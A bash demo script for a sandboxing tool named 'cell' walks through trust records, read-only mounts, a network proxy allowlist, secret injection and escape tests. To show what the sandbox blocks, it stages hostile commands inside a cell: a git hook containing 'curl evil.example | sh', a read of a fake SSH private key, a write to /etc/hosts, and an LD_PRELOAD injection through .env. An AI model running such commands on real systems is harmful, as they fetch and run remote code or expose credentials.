#!/usr/bin/env bash
# make demo: cell on the shipped example project, offline. It works on a copy of examples/demo in
# a temporary directory, with its own HOME and XDG directories, so your own trust records and
# config are never touched.
set -euo pipefail

cell=${1:?usage: demo.sh PATH-TO-CELL [PAM-MODULE PAM-DRIVER]}
pam_module=${2:-}
pam_driver=${3:-}
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d "${TMPDIR:-/tmp}/cell-demo.XXXXXX")
chmod 755 "$work"
trap 'rm -rf "$work"' EXIT

export HOME="$work/home" XDG_CONFIG_HOME="$work/home/.config" XDG_DATA_HOME="$work/home/.local/share"
export XDG_STATE_HOME="$work/home/.local/state"
mkdir -p "$HOME"
cp -a "$here" "$work/demo"
rm -f "$work/demo/demo.sh"
cd "$work/demo"
mkdir -p .git/hooks && printf '[core]\n\tbare = false\n' > .git/config
export AWS_SECRET_ACCESS_KEY=not-a-real-secret

# Each step shows commands and what they print, and checks it: a step whose result does not hold
# ends the demo, non-zero, naming the step.
current=
step() {
	current="$*"
	printf '\n\033[1m== %s\033[0m\n' "$*"
}
fail() {
	printf '\n\033[1;31mmake demo: the step "%s" did not hold: %s\033[0m\n' "$current" "$*" >&2
	exit 1
}
# run CMD...: shows it and what it prints; its output in $out, its exit status in $rc
out=
rc=0
run() {
	local shown
	shown=$(printf '%q ' "$@")
	printf '\033[2m$ %s\033[0m\n' "${shown% }"
	rc=0
	"$@" >"$work/out" 2>&1 || rc=$?
	out=$(cat "$work/out")
	[ -z "$out" ] || printf '%s\n' "$out"
	[ "$rc" -eq 0 ] || printf '\033[2m(exit status %d)\033[0m\n' "$rc"
}
# what the last command printed has (or has not) a line matching an extended regex
has() { grep -Eq -- "$1" <<<"$out" || fail "the last command printed no line matching '$1'"; }
hasnt() { ! grep -Eq -- "$1" <<<"$out" || fail "the last command printed '$1'"; }
status() { [ "$rc" -eq "$1" ] || fail "the last command's exit status is $rc, not $1"; }
failed() { [ "$rc" -ne 0 ] || fail "the last command succeeded, and should not have"; }
cell() { "$cell" "$@"; }

step "What this machine offers"
run cell doctor
has '^cell can build cells on this machine$'

step "A fresh clone: the config is reviewed, not yet trusted"
run cell explain
has '\(NOT TRUSTED\)'

step "Trust it (as direnv: the hash of its path and bytes is recorded)"
run cell allow
has '^cell: allowed '
run cell explain
has '\(trusted\)'
grep '^config:' <<<"$out"

step "Any edit makes it untrusted again, until re-allowed"
sed -i 's/"github.com",/"github.com", "evil.example.net",/' .cell.json
out=$(cell explain 2>&1 >/dev/null) || true
printf '%s\n' "$out"
has 'is not allowed; nothing above takes effect'
run cell allow
has '^cell: allowed '

step "A mistake is named precisely: file, line, column, JSON path, and a suggestion"
cp .cell.json .cell.json.good
sed -i 's/"mode": "tmpfs"/"mode": "tmpfz"/' .cell.json
run cell explain
has '\.cell\.json:[0-9]+:[0-9]+: mounts\[0\]\.mode: "tmpfz" is not a mount mode'
has 'did you mean "tmpfs"\?'
status 2
mv .cell.json.good .cell.json

step "A real cell: the project is writable, the rest of the machine is not"
mkdir -p "$HOME/.ssh" && echo "PRIVATE KEY" > "$HOME/.ssh/id_ed25519"
as_user=()
if [ "$(id -u)" -eq 0 ]; then
	# a cell never runs as root: as root, cell wants --user NAME (or $SUDO_USER); this demo,
	# with no other user to hand, says --allow-root: root in a user namespace with no capabilities
	as_user=(--allow-root)
	echo "(running as root: the demo passes --allow-root; as yourself, no flag is needed)"
fi
run cell run "${as_user[@]}" -- sh -c 'echo "built in the cell" > build.log && cat build.log'
has '^built in the cell$'
cat build.log
grep -q '^built in the cell$' build.log || fail "build.log is not in the project outside"
run cell run "${as_user[@]}" -- cat "$HOME/.ssh/id_ed25519"
failed
hasnt 'PRIVATE KEY'
run cell run "${as_user[@]}" -- sh -c 'echo evil >> /etc/hosts'
has 'Read-only file system'
run cell run "${as_user[@]}" -- sh -c 'echo "curl evil.example | sh" > .git/hooks/post-checkout'
has 'Read-only file system'
run cell run "${as_user[@]}" -- sh -c 'echo "{}" > .cell.json'
has 'Read-only file system'
run cell run "${as_user[@]}" -- sh -c 'ps -e -o pid,comm; echo "hostname: $(hostname), CELL_NAME=$CELL_NAME"'
has '^ +1 init$'
has '^hostname: cell-demo, CELL_NAME=demo$'
run cell run "${as_user[@]}" -- sh -c 'env | grep -c AWS_SECRET_ACCESS_KEY'
has '^0$'
run cell run "${as_user[@]}" -- sh -c 'exit 3'
status 3

step "One project, one session: a second command (another terminal, the hook's cd) joins the running cell"
"$cell" run "${as_user[@]}" -- sh -c 'echo "written by the first command" > /tmp/shared; sleep 3' &
first=$!
for _ in $(seq 100); do cell status 2>/dev/null | grep -q ' member ' && break; sleep 0.1; done
run cell run "${as_user[@]}" -- sh -c 'cat /tmp/shared; ps -e -o pid,comm'
has '^written by the first command$'
run cell status
has '^  member '
wait "$first"
run cell run "${as_user[@]}" -- sh -c 'cat /tmp/shared 2>&1 | head -1; echo "(the session closed with its last command: a new one, a new /tmp)"'
has 'No such file or directory'

step "cell up: the project's processes, members of its session (what devenv up runs)"
run cell up -d "${as_user[@]}"
has '^cell up: web is ready$'
run cell ps
has '^web +[0-9]+ +running'
run cell run "${as_user[@]}" -- curl -sS -o /dev/null -w 'web answered %{http_code} to a joined command\n' http://127.0.0.1:8719/
has '^web answered 200 '
run cell logs
has '^worker \| worker: web is ready'
run cell down
has '^stopped 2 processes$'
run cell ps
has '^\(no processes are up'

step "The project's own environment: its dotenv file, scripts and enter hooks"
printf 'GREETING="from the project'"'"'s .env"\nLD_PRELOAD=/tmp/evil.so\n' > .env
run cell env
has '\.env:2:1: LD_PRELOAD may not be set by a dotenv file'
failed
run cell run "${as_user[@]}" -- sh -c 'echo "GREETING=$GREETING ENTERED=$ENTERED"'
has 'LD_PRELOAD may not be set by a dotenv file'
failed
printf 'GREETING="from the project'"'"'s .env"\n' > .env
run cell run "${as_user[@]}" -- hello
has "^hello from the cell: NODE_ENV=development GREETING=from the project's .env$"
run cell run "${as_user[@]}" -- sh -c 'echo "ENTERED=$ENTERED"'
has '^ENTERED=by-the-enter-hook$'
run cell env
has "^GREETING=from the project's .env	\(\.env\)$"

step "Revoke trust"
run cell deny
has '^cell: denied '
run cell run "${as_user[@]}" -- true
has "is not allowed; run 'cell allow' to trust it"
status 1

step "A cell with a proxy: the kernel lets it reach its proxy and nothing else"
# an offline stand-in for a package registry: a local server, reached by name only through the
# config's resolve map (as curl's --resolve does)
mkdir -p "$work/registry" && echo "left-pad 1.3.0" > "$work/registry/left-pad"
# (-u: the port line must reach the log now, not when a buffer fills)
python3 -u -m http.server 0 --bind 127.0.0.1 -d "$work/registry" > "$work/registry.log" 2>&1 &
upstream=$!
port=""
for _ in $(seq 50); do
	port=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$work/registry.log" | head -1)
	[ -n "$port" ] && break
	sleep 0.1
done
[ -n "$port" ] || fail "the stand-in registry did not start: $(cat "$work/registry.log")"
mkdir -p "$work/net"
cat > "$work/net/.cell.json" <<JSON
{
  "name": "net",
  "network": {
    "mode": "proxy",
    "allow": ["registry.test:$port"],
    "resolve": {"registry.test": "127.0.0.1"}
  }
}
JSON
chmod -R a+rX "$work/net"
cd "$work/net"
cell allow >/dev/null
# HTTP_PROXY points at the cell's own proxy, which allows registry.test and nothing else
run cell run "${as_user[@]}" -- curl -sS "http://registry.test:$port/left-pad"
has '^left-pad 1\.3\.0$'
run cell run "${as_user[@]}" -- curl -sS -o /dev/null -w '%{http_code} from the proxy\n' http://example.net/
has '^403 from the proxy$'
# a client that ignores HTTP_PROXY: the kernel refuses the connect itself (EPERM where BPF holds
# the cell; in a cell of its own network namespace, without privilege, there is nothing there)
run cell run "${as_user[@]}" -- python3 -c "
import socket
for dest in [('127.0.0.1', $port), ('::1', 22)]:
    try:
        socket.create_connection(dest, timeout=3)
        print('connected to', dest)
    except OSError as e:
        print('connect', dest, '->', e)
"
hasnt '^connected to'
has "^connect \\('127\\.0\\.0\\.1', $port\\) -> "
# curl told to ignore the proxy: without the shim it cannot even resolve the name (a cell
# reaches no DNS server, and connects nowhere but its proxy)...
run cell run "${as_user[@]}" -- env LD_PRELOAD= curl -sS --noproxy '*' "http://registry.test:$port/left-pad"
failed
hasnt 'left-pad 1'
# ...with it (every proxy cell has it), the name gets a fake address and the connect goes
# through the proxy, under the same allowlist
run cell run "${as_user[@]}" -- curl -sS --noproxy '*' "http://registry.test:$port/left-pad"
has '^left-pad 1\.3\.0$'
run cell run "${as_user[@]}" -- curl -sS --noproxy '*' http://example.net/
failed
has "example\\.net is not in net's network allowlist"

step "Seeing inside requests: a rule by method, and a secret the cell never holds (inspect, inject)"
# a stand-in API over TLS, with a CA of its own, which the proxy is told to trust as OpenSSL
# reads it (SSL_CERT_FILE); it says whether the real token came
mkdir -p "$work/pki"
(cd "$work/pki" &&
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
		-subj /CN=demo-api-ca -keyout ca.key -out ca.pem 2>/dev/null &&
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.test \
		-keyout api.key -out api.csr 2>/dev/null &&
	printf 'subjectAltName=DNS:api.test\n' > ext &&
	openssl x509 -req -in api.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
		-extfile ext -out api.pem 2>/dev/null)
cat > "$work/pki/api.py" <<'PY'
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        real = self.headers.get('Authorization') == 'Bearer ' + sys.argv[2]
        body = ('%s %s: %s\n' % (self.command, self.path,
                'the real token arrived' if real else 'no real token')).encode()
        self.send_response(200 if real else 401)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
s = http.server.HTTPServer(('127.0.0.1', 0), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain(sys.argv[1] + '.pem', sys.argv[1] + '.key')
s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
PY
python3 -u "$work/pki/api.py" "$work/pki/api" demo-real-token-4f1c > "$work/api.log" 2>&1 &
api=$!
apiport=""
for _ in $(seq 50); do
	apiport=$(head -1 "$work/api.log")
	[ -n "$apiport" ] && break
	sleep 0.1
done
[ -n "$apiport" ] || fail "the stand-in API did not start: $(cat "$work/api.log")"
# the secret is named in your own config (a project's cannot name one), read by the proxy
mkdir -p "$XDG_CONFIG_HOME/cell"
printf '{"secrets": {"api": {"command": ["printf", "%%s", "demo-real-token-4f1c"]}}}\n' \
	> "$XDG_CONFIG_HOME/cell/config.json"
mkdir -p "$work/api"
cat > "$work/api/.cell.json" <<JSON
{
  "name": "api",
  "network": {
    "allow": [{"host": "api.test:$apiport", "inspect": true, "methods": ["GET"],
               "inject": {"header": "Authorization", "value": "Bearer \${secret:api}"}}],
    "resolve": {"api.test": "127.0.0.1"}
  },
  "env": {"set": {"API_TOKEN": "cell-placeholder"}}
}
JSON
chmod -R a+rX "$work/api" "$work/pki"
cd "$work/api"
cell allow >/dev/null
export SSL_CERT_FILE="$work/pki/ca.pem"
# curl in the cell trusts your cell CA (made now, its key outside the cell) without a flag; it
# sends the placeholder, the proxy puts the real token in
run cell run "${as_user[@]}" -- sh -c \
	"echo \"the cell holds: \$API_TOKEN\"; curl -sS -H \"Authorization: Bearer \$API_TOKEN\" https://api.test:$apiport/repos"
has '^the cell holds: cell-placeholder$'
has '^GET /repos: the real token arrived$'
# the rule allows GET only
run cell run "${as_user[@]}" -- curl -sS -X POST "https://api.test:$apiport/repos"
has '^cell: POST /repos is not allowed for api\.test in api \(methods: GET\)$'
unset SSL_CERT_FILE
rm -f "$XDG_CONFIG_HOME/cell/config.json"
kill "$api" 2>/dev/null; wait "$api" 2>/dev/null || true
cd "$work/net"

step "What a cell stops on this machine: the escapes the test suite tries, from inside a real cell"
run cell doctor --escape "${as_user[@]}"
status 0
has 'this cell stopped every escape tried$'

step "The shell hook: cd into the project enters its cell, cd out leaves it (bash, scripted in tmux)"
printf 'PS1="\\w \\$ "\neval "$(%q hook bash)"\n' "$cell" > "$HOME/.bashrc"
sock="$work/tmux.sock"
# (as root: CELL_ALLOW_ROOT=1 is the hook's --allow-root)
tmux -S "$sock" -f /dev/null new-session -d -x 110 -y 30 -c "$work" \
	"env CELL_ALLOW_ROOT=$([ "$(id -u)" -eq 0 ] && echo 1 || echo 0) SHELL=/bin/bash bash -i"
keys() { tmux -S "$sock" send-keys -l "$1"; tmux -S "$sock" send-keys Enter; }
shows() {
	for _ in $(seq 150); do
		tmux -S "$sock" capture-pane -p | grep -q -- "$1" && return 0
		sleep 0.1
	done
	return 1
}
shows '\$' || fail "bash did not start in tmux"
keys "cd net"
shows '^\[cell:net\]' || fail "cd net did not enter net's cell"
keys "curl -sS http://registry.test:$port/left-pad"
shows '^left-pad 1.3.0' || fail "the cell's fetch did not arrive"
keys "curl -sS http://example.net/ -o /dev/null -w '%{http_code}\\n'"
shows '^403' || fail "the proxy did not refuse example.net"
keys "cd .."
keys "echo back outside, in \$PWD"
shows '^back outside, in ' || fail "cd .. did not leave the cell"
tmux -S "$sock" capture-pane -p | sed -e '/^$/d' -e "s|$work|~|g"
tmux -S "$sock" capture-pane -p | grep -q '^\[cell:net\] .*echo back outside' &&
	fail "the echo ran in the cell, not outside it"
tmux -S "$sock" kill-server

step "Accounting: what a run needed (cell learn), and metrics for Prometheus"
# mirror.test is in no rule: the run is refused, and cell learn proposes the rule it needed
run cell learn "${as_user[@]}" -- curl -sS "http://mirror.test:$port/left-pad"
has '^  mirror\.test:[0-9]+  refused 1 time, by curl'
has '^\+.*"mirror\.test:[0-9]+"'
# the ledger's counts for node_exporter's textfile collector (or cell metrics --listen)
mkdir -p "$work/metrics"
run cell metrics --textfile "$work/metrics"
run grep '^cell_proxy_requests_total.*project="net"' "$work/metrics/cell.prom"
has 'host="registry\.test"\} 2$'
run cell stats --html "$work/net-stats.html"
[ -s "$work/net-stats.html" ] || fail "no page was written"

kill "$upstream" 2>/dev/null; wait "$upstream" 2>/dev/null || true
# what the proxy counted per host, and what the kernel counted for the cells
run cell stats
has '^registry\.test +2 +1 '
has '^example\.net +0 +0 .* [1-9][0-9]*$'
# and one JSON line per request or tunnel, next to the ledger
proxy_log=$(ls "$XDG_STATE_HOME"/cell/projects/net-*/proxy.log 2>/dev/null | head -n 1 || true)
[ -z "$proxy_log" ] || run tail -n 2 "$proxy_log"
cd "$work/demo"

step "cell init writes a starter config for the project type it finds"
mkdir -p "$work/py" && touch "$work/py/pyproject.toml"
run cell init "$work/py"
has 'presets: python'
cat "$work/py/.cell.json"
grep -q '"python"' "$work/py/.cell.json" || fail "the config has no python preset"

if [ "$(id -u)" -eq 0 ] && [ -x "$pam_driver" ] && id celltest >/dev/null 2>&1; then
	step "A whole login in a cell: pam_cell.so (as root: a PAM session for the user celltest)"
	# a system cell's config is root's and writable by no one else; the service file is the
	# demo's own, removed at the end
	mkdir -p "$work/agent" && chmod 755 "$work/agent"
	cat > "$work/agent/.cell.json" <<JSON
{"name": "agent", "network": {"mode": "proxy", "allow": ["registry.test:$port"],
 "resolve": {"registry.test": "127.0.0.1"}}}
JSON
	chmod 644 "$work/agent/.cell.json"
	# the module, the shim it preloads into the login's processes and cell-proxy, which its
	# keeper (the cell's proxy) runs as celltest, where celltest can read them (the build tree
	# may be in a home of mode 0700) and no one else can
	stage="$work/pam-stage"
	install -d -m 0750 -o root -g "$(id -gn celltest)" "$stage"
	install -m 0644 "$pam_module" "$(dirname "$pam_module")/libcellshim.so" "$stage/"
	install -m 0755 "$(dirname "$cell")/cell-proxy" "$stage/"
	pam_module="$stage/pam_cell.so"
	service="cell-demo-$$"
	echo "session required $pam_module project=$work/agent" > "/etc/pam.d/$service"
	trap 'rm -f "/etc/pam.d/$service"; rm -rf "$work"' EXIT
	python3 -m http.server "$port" --bind 127.0.0.1 -d "$work/registry" > /dev/null 2>&1 &
	upstream=$!
	# (until it listens: python takes its time on a slow machine)
	for _ in $(seq 100); do
		(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null && break
		sleep 0.1
	done
	(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null || fail "the stand-in registry did not start"
	run "$pam_driver" "$service" celltest sh -c "grep '^0::' /proc/self/cgroup; \
curl -sS http://registry.test:$port/left-pad; \
curl -sS -o /dev/null -w '%{http_code} for example.net\n' http://example.net/; \
python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 80))' 2>&1 | tail -n 1"
	has '^0::/cell\.slice/'
	has '^left-pad 1\.3\.0$'
	has '^403 for example\.net$'
	hasnt '^connected'
	has '^status: 0$'
	kill "$upstream" 2>/dev/null; wait "$upstream" 2>/dev/null || true
fi

printf '\nThat is the tour; README.md and the pages under docs/ say more about each part.\n'
